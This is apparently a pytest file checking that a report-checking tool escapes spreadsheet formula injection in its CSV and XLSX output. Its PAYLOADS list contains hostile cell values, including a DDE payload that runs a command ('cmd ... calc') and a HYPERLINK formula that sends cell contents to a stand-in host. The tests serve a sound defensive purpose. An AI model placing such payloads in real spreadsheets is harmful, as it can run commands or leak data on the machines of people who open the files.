"""Formula injection (issue 13): text from a report never becomes a formula in a CSV or XLSX the project writes.

A report whose agency and figures are formulas (``=cmd|' /C calc'!A0``,
``=HYPERLINK(…)``, ``@SUM(…)``, ``+…``, ``-…``) goes through `nianbao check
--format csv` and through the UI's CSV download; every cell that a
spreadsheet would evaluate comes out with a leading apostrophe, plain numbers
stay numbers. openpyxl writes text as text through ``put_cell``. And no
writer in the package bypasses the one escape.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import bombs
from hostile_child import ROOT, assert_bounded, created_outside, run

from assistant.spreadsheet import TRIGGERS, needs_escape, put_cell, safe_cell

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?q="&A1,"点这里")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def test_the_escape_itself():
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    for plain in ["-3", "+1.5", "12,345", "-0.5%", "青禾市人民政府", "", "3-2", "合计=10"]:
        assert safe_cell(plain) == plain
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert needs_escape("  =1+1")  # some programs drop the blanks first


def hostile_report(tmp_path: Path) -> Path:
    text = bombs.TEXT.read_text(encoding="utf-8")
    lines = text.split("\n")
    assert lines[0] == "青禾市人民政府"
    lines[0] = PAYLOADS[0]
    path = tmp_path / "=HYPERLINK(1).txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def cells_of(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def assert_no_formula(cells: list[str]) -> None:
    risky = [c for c in cells if c.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?[\d,]+(?:\.\d+)?%?", c)]
    assert risky == []


def test_check_csv_escapes_every_cell_a_spreadsheet_would_run(tmp_path):
    box = tmp_path / "box"
    report = hostile_report(tmp_path)
    r = run(["check", str(report), "--format", "csv"], sandbox=box)
    assert r.code in (0, 1), r.err
    assert_bounded(r)
    cells = cells_of(r.out)
    assert "'" + PAYLOADS[0] in cells  # the agency column
    assert "'" + str(report) not in cells and str(report) in cells  # a path starting "/" is not a formula
    assert_no_formula(cells)
    assert created_outside(box) == []


def test_the_ui_download_writes_the_same_escaped_sheet(tmp_path):
    from assistant.chat import Workspace
    from assistant.draft.settings import LLMSettings

    ws = Workspace(llm_settings=LLMSettings())
    report = hostile_report(tmp_path)
    ws.load(report.read_bytes(), report.name)
    ws.set_cell("三", "（七）总计", "总计", "=1+1")  # a figure typed into the UI's grid, then flagged by the checks
    cells = cells_of(ws.findings_csv())
    assert "'" + PAYLOADS[0] in cells
    assert_no_formula(cells)


def test_openpyxl_writes_formula_text_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    ws = wb.active
    for row, value in enumerate([*PAYLOADS, "-3", 42, "青禾市"], start=1):
        put_cell(ws.cell(row=row, column=1), value)
    path = tmp_path / "audit.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    for row, value in enumerate(PAYLOADS, start=1):
        cell = back.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == value and cell.quotePrefix
    # Without put_cell openpyxl would have stored the first one as a formula.
    plain = Workbook().active
    plain["A1"] = PAYLOADS[0]
    assert plain["A1"].data_type == "f"


def test_no_writer_in_the_package_bypasses_the_escape():
    """Every csv.writer goes through SafeWriter; every openpyxl cell write through put_cell."""
    offenders = []
    for path in (ROOT / "assistant").rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if "csv.writer(" in line and "SafeWriter(" not in line:
                offenders.append(f"{path.relative_to(ROOT)}:{n}")
            if re.search(r"csv\.DictWriter\(|\.append\(\[.*\]\)\s*#\s*xlsx|\bws\.append\(|\.cell\([^)]*value=", line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}")
    assert offenders == []


def test_a_file_named_like_a_formula_is_escaped_in_its_own_column(tmp_path):
    box = tmp_path / "box"
    (box / "cwd").mkdir(parents=True)
    name = "=HYPERLINK(1)+cmd.txt"
    (box / "cwd" / name).write_text(bombs.TEXT.read_text(encoding="utf-8"), encoding="utf-8")
    r = run(["check", name, "--format", "csv"], sandbox=box)  # a relative name: the cell starts with "="
    assert r.code in (0, 1), r.err
    cells = cells_of(r.out)
    assert "'" + name in cells
    assert_no_formula(cells)
